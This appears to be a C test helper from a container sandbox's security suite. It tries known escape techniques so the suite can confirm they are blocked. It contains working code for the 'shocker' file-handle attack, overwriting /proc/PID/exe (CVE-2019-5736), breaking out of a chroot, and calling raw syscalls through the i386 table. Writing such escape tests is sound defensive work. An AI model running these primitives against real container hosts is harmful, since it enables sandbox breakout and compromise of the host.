/*
 * box-probe: attempts the escape suite needs that busybox cannot make. Built static by the
 * project's Zig (test/security/probe.ts) and copied into the container's rootfs.
 *
 *   probe syscall NR [ARG...]   raw syscall; prints "ok N" or "errno N"
 *   probe i386 NR [ARG...]      the same through int 0x80 (the i386 table)
 *   probe handle PATH           name_to_handle_at, then open_by_handle_at (the "shocker" attack)
 *   probe exe PID               open /proc/PID/exe for writing (CVE-2019-5736)
 *   probe chroot-escape PATH    chroot into a subdirectory, climb with "..", chroot ".", open PATH
 *   probe keyring               the id of the session keyring
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static int result(long ret)
{
	if (ret < 0) {
		printf("errno %d\n", errno);
		return 1;
	}
	printf("ok %ld\n", ret);
	return 0;
}

static long arg(int argc, char **argv, int i)
{
	return i < argc ? strtol(argv[i], NULL, 0) : 0;
}

static long i386_syscall(long nr, long a, long b, long c)
{
	long ret;
	__asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
	if (ret < 0 && ret > -4096) {
		errno = (int)-ret;
		return -1;
	}
	return ret;
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	const char *what = argv[1];
	if (strcmp(what, "syscall") == 0 && argc >= 3) {
		return result(syscall(arg(argc, argv, 2), arg(argc, argv, 3), arg(argc, argv, 4), arg(argc, argv, 5),
				      arg(argc, argv, 6), arg(argc, argv, 7), arg(argc, argv, 8)));
	}
	if (strcmp(what, "i386") == 0 && argc >= 3)
		return result(i386_syscall(arg(argc, argv, 2), arg(argc, argv, 3), arg(argc, argv, 4), arg(argc, argv, 5)));
	if (strcmp(what, "handle") == 0 && argc >= 3) {
		struct file_handle *fh = malloc(sizeof(*fh) + 128);
		int mount_id;
		fh->handle_bytes = 128;
		if (syscall(SYS_name_to_handle_at, AT_FDCWD, argv[2], fh, &mount_id, 0) < 0)
			return result(-1);
		int mfd = open("/", O_RDONLY | O_DIRECTORY);
		return result(syscall(SYS_open_by_handle_at, mfd, fh, O_RDONLY));
	}
	if (strcmp(what, "exe") == 0 && argc >= 3) {
		char path[64];
		snprintf(path, sizeof(path), "/proc/%s/exe", argv[2]);
		int fd = open(path, O_WRONLY);
		if (fd >= 0)
			return result(write(fd, "X", 1));
		/* The other way in: an O_PATH fd, reopened for writing through /proc/self/fd. */
		int pfd = open(path, O_PATH);
		if (pfd < 0)
			return result(-1);
		snprintf(path, sizeof(path), "/proc/self/fd/%d", pfd);
		fd = open(path, O_RDWR);
		return result(fd < 0 ? -1 : write(fd, "X", 1));
	}
	if (strcmp(what, "chroot-escape") == 0 && argc >= 3) {
		mkdir("/box-probe-jail", 0700);
		if (chroot("/box-probe-jail") < 0)
			return result(-1);
		for (int i = 0; i < 64; i++)
			if (chdir("..") < 0)
				break;
		if (chroot(".") < 0)
			return result(-1);
		return result(open(argv[2], O_RDONLY));
	}
	if (strcmp(what, "keyring") == 0)
		return result(syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 0));
	return 2;
}
